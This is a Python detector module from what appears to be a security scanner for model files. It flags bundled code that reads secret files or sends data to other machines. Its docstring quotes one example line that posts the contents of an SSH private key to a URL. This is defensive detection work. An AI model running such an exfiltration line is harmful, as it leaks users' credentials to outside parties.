"""Python code that comes with a model reads secrets or sends data away.

Keys, tokens, the environment and the inputs of the model are worth more than the model.
Credentials in a request's headers are how programs log in and are left alone.

Before: ``requests.post(URL, data=open("/root/.ssh/id_rsa").read())``.
After: the file without the call.

Sources: CWE-200; CWE-522.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Final

from modelkeep.core import Finding, Rule, Severity
from modelkeep.scan.hosts import suspicious_host
from modelkeep.scan.interface import Context, Detector
from modelkeep.scan.python_flow import Event
from modelkeep.scan.python_grading import PYTHON, acts, by_place, report
from modelkeep.scan.python_origins import is_secret_place
from modelkeep.scan.python_policy import LOGIN, Act
from modelkeep.scan.python_values import ENVIRONMENT, HOST, SECRET, flat, joined

RULE: Final = Rule(
    id="PYC005",
    name="python-sends-data-away",
    summary="Code that comes with the model reads secrets or sends data to another machine.",
    remedy="Do not load the model with its own code; if it ran, replace the secrets it saw.",
    topic="artifact.malicious_code",
    tags=("CWE-200", "CWE-522"),
)
_SECRETS: Final = frozenset({SECRET, ENVIRONMENT, HOST})
_ASKS_NAMES: Final = frozenset(
    "socket.gethostbyname socket.getaddrinfo dns.resolver.resolve dns.resolver.query".split()
)


def run(context: Context) -> Iterator[Finding]:
    """Yield one finding per secret read and per sending of data."""
    for event in acts(context, Act.OPEN, Act.COPY):
        path = flat(event.argument(0, "file")) or event.receiver.text
        if is_secret_place(path):
            severity = by_place(event, early=Severity.HIGH)
            yield report(context, RULE, event, severity, f"{event.name} reads {path!r}")
    for event in acts(context, Act.SEND, Act.REQUEST):
        graded = _severity(event)
        if context.format == "python cells" and not _SECRETS & event.labels:
            graded = None  # a notebook that asks a service is no program that spies
        if graded is not None:
            yield report(context, RULE, event, graded, f"{event.name} sends data away")


def _severity(event: Event) -> Severity | None:
    sent = (*event.args, *(v for key, v in event.named.items() if key not in LOGIN))
    labels = joined(*sent)
    if SECRET in labels:
        return by_place(event)
    if {ENVIRONMENT, HOST} & labels:
        return by_place(event, early=Severity.HIGH)
    if event.act is Act.REQUEST or event.name in _ASKS_NAMES:
        return None
    if any(suspicious_host(flat(value)) for value in event.args):
        return by_place(event, early=Severity.HIGH)
    if event.name == "urllib.request.Request":
        return Severity.MEDIUM if event.argument(1, "data").labels else None
    return by_place(event, early=Severity.HIGH, late=Severity.MEDIUM)


DETECTOR: Final = Detector(RULE, PYTHON, run)
